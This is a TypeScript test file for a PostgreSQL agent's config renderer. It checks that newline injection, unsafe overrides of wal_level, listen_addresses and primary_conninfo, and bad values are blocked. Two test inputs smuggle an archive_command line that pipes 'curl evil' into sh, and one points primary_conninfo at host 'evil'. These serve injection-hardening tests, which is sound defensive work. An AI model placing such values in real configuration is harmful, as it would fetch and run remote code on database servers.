import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { parseAgentConfig } from '../../../agent/config/load.js';
import { nodeYaml } from '../fixtures.js';
import { agentParameters, renderConf, userParameters } from '../../../agent/postgres/files.js';
import { checkParameters, parseDescribeConfig } from '../../../agent/postgres/parameters.js';

// `postgres --describe-config` of PostgreSQL 15 (name, context, group, type), as the agent reads it.
const known = parseDescribeConfig(
  readFileSync(new URL('../../fixtures/postgres15-describe-config.tsv', import.meta.url), 'utf8'),
);

const config = parseAgentConfig(
  nodeYaml(', allow_unauthenticated_writes: true', '  parameters: {work_mem: 8MB, max_connections: 500}\n'),
  'node.yml',
).config;

/** The lines of switchyard.conf rendered from a cluster config's postgresql.parameters. */
function confLines(dcs: Record<string, unknown>): string[] {
  return renderConf(agentParameters(config, dcs, null, '', known)).split('\n');
}

test('a newline in a parameter name from the cluster config does not inject a line', () => {
  const lines = confLines({ "work_mem = '1MB'\narchive_command": 'curl evil | sh', shared_buffers: '16MB' });
  assert.ok(!lines.some((l) => l.startsWith('archive_command')), lines.join('\n'));
  assert.ok(lines.includes("shared_buffers = '16MB'"));
});

test('a newline in a value from the cluster config does not inject a line', () => {
  const lines = confLines({ search_path: "x'\narchive_command = 'curl evil | sh", work_mem: '4MB' });
  assert.ok(!lines.some((l) => l.startsWith('archive_command')), lines.join('\n'));
  assert.ok(!lines.some((l) => l.startsWith('search_path')));
});

test('the cluster config cannot lower wal_level or turn hot_standby off', () => {
  const lines = confLines({ wal_level: 'minimal', hot_standby: 'off', wal_log_hints: 'off' });
  assert.ok(lines.includes("wal_level = 'replica'"));
  assert.ok(lines.includes("hot_standby = 'on'"));
  assert.ok(lines.includes("wal_log_hints = 'on'"));
  assert.ok(!lines.includes("wal_level = 'minimal'"));
});

test('wal_level logical from the cluster config is kept', () => {
  assert.ok(confLines({ wal_level: 'logical' }).includes("wal_level = 'logical'"));
});

test('listen_addresses, port and recovery settings come from the agent, not the cluster config', () => {
  const lines = confLines({
    listen_addresses: '*',
    port: 6000,
    primary_conninfo: 'host=evil',
    synchronous_standby_names: 'x',
  });
  assert.ok(lines.includes("listen_addresses = '127.0.0.1'"));
  assert.ok(lines.includes('port = 5432'));
  assert.ok(lines.includes("primary_conninfo = ''"));
  assert.ok(lines.includes("synchronous_standby_names = ''"));
});

test('an unknown parameter is dropped with a reason instead of stopping PostgreSQL', () => {
  const lines = confLines({ shared_bufers: '16MB', 'pg_stat_statements.max': 1000 });
  assert.ok(!lines.some((l) => l.startsWith('shared_bufers')));
  // Extension parameters (with a dot) are not known to the server binary and pass.
  assert.ok(lines.includes('pg_stat_statements.max = 1000'));
  const { dropped } = userParameters(config, { shared_bufers: '16MB' }, known);
  assert.deepEqual(dropped, [
    `the cluster config's postgresql.parameters: "shared_bufers" ignored: not a parameter of this PostgreSQL`,
    `this node's postgresql.parameters: "max_connections" ignored: cluster-wide: set it in the cluster's config (bootstrap.dcs or edit-config)`,
  ]);
});

test('a value of the wrong type is dropped and a cluster-wide minimum is enforced', () => {
  const r = checkParameters(
    { fsync: 'maybe', work_mem: 'lots', max_connections: 10, max_wal_senders: 5 },
    'dynamic',
    known,
  );
  assert.deepEqual(r.accepted, { max_wal_senders: 5 });
  assert.deepEqual(
    r.dropped.map((d) => d.replace(/^.*ignored: /, '')),
    ['expected a boolean value', 'expected a integer value', 'expected an integer ≥ 25'],
  );
});

test('quotes and backslashes in values are escaped, secrets are not in the reasons', () => {
  const lines = confLines({ search_path: "it's a \\ test" });
  assert.ok(lines.includes("search_path = 'it''s a \\\\ test'"));
  const { dropped } = userParameters(config, { bogus: 'hunter2' }, known);
  assert.ok(!dropped.join('').includes('hunter2'));
});

test("hot_standby and wal_log_hints 'on' (Patroni's examples) are dropped without a warning", () => {
  const r = checkParameters(
    { hot_standby: 'on', wal_log_hints: true, wal_level: 'replica' },
    'dynamic',
    known,
  );
  assert.deepEqual(r, { accepted: { wal_level: 'replica' }, dropped: [] });
});
